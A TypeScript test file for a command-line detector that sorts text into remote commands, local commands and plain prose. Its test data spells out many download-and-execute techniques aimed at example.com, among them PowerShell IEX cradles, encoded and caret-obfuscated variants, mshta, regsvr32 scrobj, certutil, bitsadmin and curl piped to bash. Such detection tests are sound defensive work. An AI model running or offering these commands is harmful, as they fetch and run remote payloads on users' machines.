import assert from 'node:assert/strict'
import { suite, test } from 'node:test'
import { findCommand } from './find.ts'

const encoded = (command: string) => Buffer.from(command, 'utf16le').toString('base64')

const REMOTE: Record<string, string> = {
  'powershell -w hidden -c "iwr https://example.com/a -OutFile a.exe"': 'powershell',
  'PowerShell.exe -NoP -Exec Bypass IEX (New-Object Net.WebClient).DownloadString("http://example.com/a")':
    'powershell',
  'p^o^w^e^r^s^h^e^l^l -w hidden -c "iwr http://example.com"': 'powershell',
  [`powershell -enc ${encoded('iex (iwr http://example.com/a)')}`]: 'powershell',
  'powershell "& {iwr http://example.com/a}"': 'powershell',
  'irm https://example.com/a | iex': 'powershell',
  'mshta https://example.com/a.hta': 'mshta',
  'C:\\Windows\\System32\\mshta.exe "http://example.com/verify"': 'mshta',
  'regsvr32 /s /n /u /i:http://example.com/a.sct scrobj.dll': 'regsvr32',
  'rundll32.exe \\\\192.0.2.1\\share\\a.dll,Start': 'rundll32',
  'rundll32.exe \\\\files.example/share/a.dll,Start': 'rundll32',
  'mshta http://localhost@example.com/a.hta': 'mshta',
  'mshta http://localhost:%port%@example.com/a.hta': 'mshta',
  'mshta http://localhost:80@example.com/a.hta': 'mshta',
  'mshta http://127.0.0.1\\@example.com/a.hta': 'mshta',
  'mshta http://127.0.0.1%40example.com/a.hta': 'mshta',
  'mshta http://@example.com/a.hta': 'mshta',
  'certutil.exe -urlcache -split -f http://example.com/a a.exe': 'certutil',
  'bitsadmin /transfer job /download https://example.com/a c:\\a.exe': 'bitsadmin',
  'msiexec /q /i https://example.com/a.msi': 'msiexec',
  'cmd.exe /c curl -o %TEMP%\\a.exe https://example.com/a && start %TEMP%\\a.exe': 'cmd',
  'wscript //e:jscript \\\\files.example\\a\\b.txt': 'wscript',
  'wmic os get /format:"https://example.com/a.xsl"': 'wmic',
  'curl -fsSL https://example.com/install.sh | bash': 'curl',
  '/bin/bash -c "$(curl -fsSL https://example.com/a)"': 'sh',
  'bash <(curl -s http://example.com/a)': 'sh',
  'eval "$(curl http://example.com/a)"': 'sh',
  [`echo "${btoa('curl -s http://example.com/a | sh')}" | base64 -d | bash`]: 'sh',
}
const LOCAL: Record<string, string> = {
  'cmd /c calc': 'cmd',
  '%COMSPEC% /c start notepad': 'cmd',
  'cmd.exe /q /v:on /c "echo a"': 'cmd',
  'c"m"d /c calc.exe': 'cmd',
  'rundll32 a.dll,Start': 'rundll32',
  'wscript.exe a.vbs': 'wscript',
  'mshta http://localhost/a.hta?b=c@example.com': 'mshta',
  'mshta http://localhost:%port%/a.hta': 'mshta',
  'mshta http://localhost:%1/a.hta': 'mshta',
  'mshta http://127.0.0.1:${port}/a.hta': 'mshta',
  'mshta http://127.0.0.1:8080/a.hta': 'mshta',
  'rundll32 \\\\localhost/share/a.dll,Start': 'rundll32',
  'msiexec /i a.msi /qn': 'msiexec',
  'rundll32 javascript:"\\..\\mshtml,RunHTMLApplication "': 'rundll32',
}
const PROSE = [
  'Open PowerShell and type Get-Help.',
  'Press cmd/ctrl + e to export.',
  'The cmd window closes.',
  'PowerShell - the shell of Windows',
  'curl up with a book',
  'Use certutil to check a hash.',
  'regsvr32 registers libraries.',
  'mshta and rundll32 are programs of Windows.',
  'The command finger is old.',
  'Reports can be found at https://example.com/powershell',
  'sh - a shell',
  'To eval the result, open a shell.',
  'base64 -d decodes a file',
  'PowerShell (a shell), "PowerShell" and PowerShell [1] are names.',
  '',
]

suite('command lines', () => {
  for (const [text, program] of Object.entries(REMOTE))
    test(`remote: ${text.slice(0, 60)}`, () => {
      const found = findCommand(text)
      assert.equal(found?.program, program)
      assert.equal(found.isRemote, true)
    })

  for (const [text, program] of Object.entries(LOCAL))
    test(`local: ${text}`, () => {
      const found = findCommand(text)
      assert.equal(found?.program, program)
      assert.equal(found.isRemote, false)
    })

  for (const text of PROSE) test(`no command: ${text}`, () => assert.equal(findCommand(text), null))

  test('an encoded command is decoded', () => {
    const found = findCommand(`powershell -nop -e ${encoded('Start-Process calc')}`)
    assert.deepEqual([found?.isEncoded, found?.isRemote], [true, false])
  })

  test('carets and joined pieces are obfuscation, an escaped ampersand is not', () => {
    assert.equal(findCommand('c^m^d /c ca^lc')?.isObfuscated, true)
    assert.equal(findCommand('cmd /c echo a ^& b')?.isObfuscated, false)
  })

  test('commands of other systems are marked', () => {
    assert.equal(findCommand("osascript -e 'display dialog 1'")?.isWindows, false)
    assert.equal(findCommand('mshta http://example.com/a')?.isWindows, true)
  })

  test('a harmless command in front does not hide another', () => {
    const command = findCommand(`cmd /c echo ${'x'.repeat(100_000)} & mshta http://example.com/a`)
    assert.deepEqual([command?.program, command?.isRemote], ['mshta', true])
  })

  test('hostile texts take little time', () => {
    const before = process.cpuUsage()
    for (const piece of [
      'cmd /a ',
      'powershell -',
      'mshta ',
      '\\a',
      "'+'",
      'bitsadmin ',
      'curl -a ',
      'a"b',
      '^',
      ' ',
      'wmic ',
      'bash <',
      'abcdefgh|base64 ',
    ])
      findCommand(piece.repeat(32_768 / piece.length))
    assert.ok(process.cpuUsage(before).user < 3_000_000)
  })
})
